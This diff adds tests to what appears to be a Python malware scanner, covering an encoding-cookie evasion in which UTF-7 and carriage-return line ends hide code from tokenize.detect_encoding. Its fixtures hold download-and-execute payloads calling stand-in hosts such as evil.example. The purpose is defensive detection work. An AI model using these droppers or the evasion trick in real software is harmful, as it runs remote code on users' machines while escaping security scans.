@@ -186,6 +186,54 @@ def test_text_is_decoded_as_an_import_would(
     assert _decode(data) == expected
 
 
+# A "\r"-only file whose cookie is on its second line, after an empty first one: the
+# interpreter's tokenizer reads "\r" as a line end (universal newlines) and honours the
+# cookie; tokenize.detect_encoding splits at "\n" only, saw one blank "line" and
+# answered UTF-8. UTF-7 hides a line break in "+AA0-", so the payload was a comment to
+# the scan and code to the import (attack5; old, not from the fast path).
+_CR_UTF7 = (
+    b"\r# coding: utf-7\r#+AA0-import os, urllib.request+AA0-"
+    b'os.system(urllib.request.urlopen("https://evil.example/x").read().decode())\r'
+)
+
+
+@pytest.mark.parametrize("newline", [b"\r", b"\r\n", b"\n"])
+def test_a_cookie_after_a_carriage_return_is_read_as_the_interpreter_reads_it(
+    newline: bytes,
+) -> None:
+    text, problem, _ = _decode(_CR_UTF7.replace(b"\r", newline))
+    assert problem is None
+    assert "#\rimport os, urllib.request\ros.system(" in text
+    body = ast.parse(text.replace("\r\n", "\n").replace("\r", "\n")).body
+    assert any(isinstance(node, ast.Import) for node in body)  # code, not a comment
+
+
+def test_a_cr_only_utf7_dropper_is_danger_in_a_package(tmp_path: Path) -> None:
+    (tmp_path / "mod.py").write_bytes(_CR_UTF7)
+    report = scan_tree(tmp_path, mode=ScanMode.PACKAGE)
+    assert any(
+        f.severity is Severity.DANGER and f.rule_id == "CPL-THR-002" for f in report.findings
+    ), report.findings
+
+
+# The other way round: a cookie on a "\r"-only file's third line, no cookie to the
+# interpreter, was on the one "line" detect_encoding read (a comment first): the scan
+# decoded UTF-7, "+" began a base64 run and garbled the call the import ran.
+_CR_THIRD_LINE_COOKIE = (
+    b"#x\rimport os, urllib.request\r# coding: utf-7\r"
+    b'os.system(urllib.request.urlopen("https://x.example/s").read().decode()+"")\r'
+)
+
+
+def test_a_cookie_on_a_carriage_return_files_third_line_is_no_cookie(tmp_path: Path) -> None:
+    assert _decode(_CR_THIRD_LINE_COOKIE) == (_CR_THIRD_LINE_COOKIE.decode(), None, 0)
+    (tmp_path / "mod.py").write_bytes(_CR_THIRD_LINE_COOKIE)
+    report = scan_tree(tmp_path, mode=ScanMode.PACKAGE)
+    assert any(
+        f.severity is Severity.DANGER and f.rule_id == "CPL-THR-002" for f in report.findings
+    ), report.findings
+
+
 def test_undecodable_first_line_is_the_encoding_declaration_problem() -> None:
     text, problem, line = _decode(b"x = '\xff'\n")
     assert (text, line) == ("x = '\ufffd'\n", 1)
